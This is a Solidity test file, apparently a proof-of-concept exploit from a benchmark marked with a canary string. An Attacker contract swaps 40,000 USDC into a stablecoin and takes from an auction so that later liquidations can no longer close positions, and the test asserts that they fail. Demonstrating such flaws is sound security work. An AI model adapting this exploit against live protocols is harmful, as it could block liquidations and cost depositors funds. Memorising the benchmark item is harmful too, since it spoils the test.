// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function begin(IERC20 usdc, PegModule peg, AuctionHouse house) external {
        usdc.approve(address(peg), type(uint256).max);
        peg.dollar().approve(address(house), type(uint256).max);
        peg.swap_in(40_000e6, address(this));
    }

    function end(AuctionHouse house) external {
        house.take(1, 40e18, type(uint256).max, address(this), "");
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usdc.mint(address(other), 40_000e6);
    }

    function exploit() public {
        other.begin(usdc, peg, house);
        vm.warp(block.timestamp + 3.5 hours);
        other.end(house);
    }

    function test_Exploit() public {
        exploit();
        (bool done,) = address(this).call(abi.encodeCall(this.closes, ()));
        require(!done, "positions are closed");
    }

    /// A keeper buys what is for sale, at a price that brings in what is owed, and closes the next position.
    function closes() public {
        IAuctionHouse.Sale memory sale = house.sale_of(1);
        if (sale.started_at != 0 && !house.needs_restart(1)) vm.warp(sale.started_at + 5 hours);
        publish(1_900e8, 80e8);
        if (block.timestamp >= weth_feed.advanced_at() + 1 hours) weth_feed.advance();
        (, bool usable) = weth_feed.peek();
        if (!usable) {
            vm.warp(block.timestamp + 1 hours);
            weth_feed.advance();
        }
        vm.startPrank(BO);
        if (sale.started_at != 0) {
            house.restart(1);
            house.take(1, ALL, ALL, BO, "");
        }
        liquidator.liquidate(WETH_A, CEE);
        vm.stopPrank();
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
